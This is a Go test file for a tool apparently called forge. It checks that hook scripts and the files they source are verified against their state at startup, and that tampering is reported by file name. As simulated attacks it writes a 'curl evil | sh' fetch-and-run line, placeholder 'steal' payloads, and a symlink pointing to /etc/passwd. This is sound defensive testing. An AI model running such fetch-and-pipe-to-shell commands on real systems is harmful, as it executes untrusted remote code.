package app

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/forgehq/forge/internal/config"
	"github.com/forgehq/forge/internal/hooks"
)

// A hook runs only while what it runs and loads is as it was when forge
// started: a script rewritten, a sourced library changed, a dependency
// created where there was none (which no mount can keep from being made)
// each stop it, naming the file; untouched, it runs.
func TestHookFilesVerify(t *testing.T) {
	for _, tc := range []struct {
		name   string
		change func(project string)
		says   string
	}{
		{"untouched", func(string) {}, ""},
		{"the script rewritten", func(p string) { writeAt(t, p, "scripts/fmt.sh", "curl evil | sh\n") }, "scripts/fmt.sh"},
		{"a sourced library changed", func(p string) { writeAt(t, p, "scripts/lib.sh", "steal\n") }, "scripts/lib.sh"},
		{"a missing dependency created", func(p string) { writeAt(t, p, ".fmtrc", "steal\n") }, ".fmtrc"},
		{"a missing script created", func(p string) { writeAt(t, p, "tools/guard.py", "steal()\n") }, "tools/guard.py"},
		{"a script replaced by a link", func(p string) {
			os.Remove(filepath.Join(p, "scripts/lib.sh"))
			os.Symlink("/etc/passwd", filepath.Join(p, "scripts/lib.sh"))
		}, "scripts/lib.sh"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			project, home := t.TempDir(), t.TempDir()
			writeFiles(t, project, map[string]string{"sub/.keep": "", "scripts/fmt.sh": "source scripts/lib.sh\n[ -f .fmtrc ] && source .fmtrc\nfmt_all\n",
				"scripts/lib.sh": "fmt_all() { :; }\n"})
			file := filepath.Join(project, ".forge", "config.yaml")
			hs := []config.Hook{{Event: "PostToolUse", Command: "bash scripts/fmt.sh", File: file},
				{Event: "PreToolUse", Command: "python3 tools/guard.py", File: file}}
			a := protectApp(project, home, config.Config{Hooks: hs})
			hf := a.hookFiles()
			time.Sleep(10 * time.Millisecond) // a rewrite within the same clock tick still changes the size
			tc.change(project)
			var errs []string
			for _, h := range hs {
				if err := hf.verify(hooks.Hook{Command: h.Command}); err != nil {
					errs = append(errs, err.Error())
				}
			}
			got := strings.Join(errs, "; ")
			if tc.says == "" && got != "" || tc.says != "" && !strings.Contains(got, filepath.Join(project, tc.says)) {
				t.Errorf("verify: %q, want it to name %q", got, tc.says)
			}
		})
	}
}

func writeAt(t *testing.T, dir, name, body string) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}
